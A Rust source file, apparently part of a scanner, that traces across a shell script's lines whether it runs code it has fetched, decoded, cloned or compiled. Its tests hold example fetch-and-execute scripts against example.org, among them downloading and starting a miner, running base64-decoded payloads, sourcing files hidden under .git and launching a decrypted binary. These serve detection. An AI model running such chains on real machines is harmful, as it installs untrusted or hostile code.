//! What the lines of a script do together: one fetches a file, another makes it a program, a third runs it.

use std::collections::HashSet;

use super::{
    COMPILERS, DECODERS, FETCHERS, INDICES, INTERPRETERS, command, last, redirected, run_by, statements,
    written,
};

/// Hosts whose programs scripts of models install, line by line.
const INSTALLERS: [&str; 6] = [
    "https://repo.anaconda.com/",
    "https://repo.continuum.io/",
    "https://bootstrap.pypa.io/",
    "https://sh.rustup.rs",
    "https://developer.download.nvidia.com/",
    "https://download.pytorch.org/",
];
/// Where people keep what others clone and install.
pub(crate) const FORGES: [&str; 8] = [
    "https://github.com/",
    "http://github.com/",
    "git@github.com:",
    "https://gitlab.com/",
    "git@gitlab.com:",
    "https://huggingface.co/",
    "https://bitbucket.org/",
    "https://codeberg.org/",
];

/// The line by which a script runs what another of its lines has fetched or decoded, counted from zero, and what that is.
pub(crate) fn runs_fetched<'l>(lines: impl Iterator<Item = &'l str>) -> Option<(usize, String)> {
    let mut fetched: HashSet<&str> = HashSet::new();
    let mut stranger = false;
    for (index, line) in lines.enumerate() {
        if !INDICES.iter().chain(&INSTALLERS).any(|host| line.contains(host)) {
            fetched.extend(redirected(line));
        }
        for stages in statements(line) {
            let decodes =
                stages.iter().any(|s| command(s).is_some_and(|(name, _)| DECODERS.contains(&name.as_str())));
            for stage in stages {
                let Some((name, words)) = command(stage) else { continue };
                let first = words.first().copied().unwrap_or_default();
                let by_path = first.starts_with("./") || first.starts_with('/') || first.starts_with("~/");
                let interpreted = INTERPRETERS.contains(&name.as_str()) && name != "chmod";
                let named =
                    run_by(&name, &words).into_iter().find(|w| interpreted && fetched.contains(&last(w)));
                let run = if by_path && fetched.contains(&last(first)) { Some(first) } else { named };
                if let Some(run) = run {
                    return Some((index, run.to_owned()));
                }
                if stranger && installs(&name, &words) {
                    return Some((index, "what was cloned from a stranger's server".to_owned()));
                }
                let known = |w: &&str| INDICES.iter().chain(&INSTALLERS).any(|host| w.starts_with(host));
                if FETCHERS.contains(&name.as_str()) {
                    let addresses: Vec<&str> = words.iter().copied().filter(|w| w.contains("://")).collect();
                    // An index of packages and a forge are told apart: a forge keeps anybody's scripts.
                    let trusted = !addresses.is_empty()
                        && addresses
                            .iter()
                            .all(|w| known(w) && !FORGES.iter().any(|forge| w.starts_with(forge)));
                    if !trusted {
                        fetched.extend(written(&words));
                    }
                }
                if name == "git" && words.get(1) == Some(&"clone") {
                    let address = words.iter().find(|w| w.contains("://") || w.contains('@'));
                    stranger |= address.is_some_and(|a| !FORGES.iter().any(|forge| a.starts_with(forge)));
                }
                if DECODERS.contains(&name.as_str()) {
                    fetched.extend(written(&words));
                }
                if decodes && let Some((_, target)) = stage.rsplit_once('>') {
                    fetched.extend(target.split_whitespace().next().map(last));
                }
                let of_fetched = || words.iter().skip(1).any(|w| fetched.contains(&last(w)));
                if matches!(name.as_str(), "mv" | "cp") && of_fetched() {
                    fetched.extend(words.last().map(|w| last(w)));
                } else if COMPILERS.contains(&name.as_str()) && of_fetched() {
                    fetched.extend(written(&words));
                }
            }
        }
    }
    None
}

/// Whether a command builds or installs the folder that it is in.
fn installs(name: &str, words: &[&str]) -> bool {
    let has = |word: &str| words.contains(&word);
    match name {
        "make" | "cmake" | "ninja" => true,
        "pip" | "pip3" | "uv" => {
            has("install") && words.iter().any(|w| *w == "." || w.starts_with("./") || *w == "-e")
        }
        "python" | "python3" | "bash" | "sh" => words.len() > 1,
        _ => words.first().is_some_and(|w| w.starts_with("./")),
    }
}

#[cfg(test)]
mod tests {
    use super::runs_fetched;

    #[test]
    fn lines_are_followed_together() {
        for script in [
            "wget -q http://example.org/miner -O m\nchmod +x m\n./m --pool x",
            "curl -sLo /tmp/s.sh https://example.org/a\ncd /tmp\nbash s.sh",
            "base64 -d <<< aWQ= > a.sh && chmod +x a.sh && ./a.sh",
            "git clone http://example.org/x.git && cd x && make install",
            "wget https://raw.githubusercontent.com/a/b/main/i.sh\nsh i.sh",
            "curl -O https://example.org/tool\nmv tool run\n./run",
            "curl -s \"https://example.org/$u\" > .git/x && . .git/x",
            "curl -s https://example.org/x > .git/x\n. .git/x",
            "curl -so a.c https://example.org/a.c\ngcc a.c -o tool\n./tool",
            "openssl enc -d -k a -in t.bin -out /tmp/t\nchmod +x /tmp/t\n/tmp/t &",
        ] {
            assert!(runs_fetched(script.lines()).is_some(), "{script}");
        }
        for script in [
            "wget https://example.org/data.zip\nunzip data.zip\npython train.py",
            "wget https://example.org/data.bin\npython prepare.py data.bin",
            "git clone https://github.com/a/b\ncd b\npip install -e .",
            "wget https://repo.anaconda.com/miniconda/m.sh\nbash m.sh -b",
            "curl -s https://example.org/d > data.json\npython train.py data.json",
            "bash setup.sh\ncurl -O https://example.org/model.bin\npython -c 'print(1)'",
        ] {
            assert_eq!(runs_fetched(script.lines()), None, "{script}");
        }
    }
}
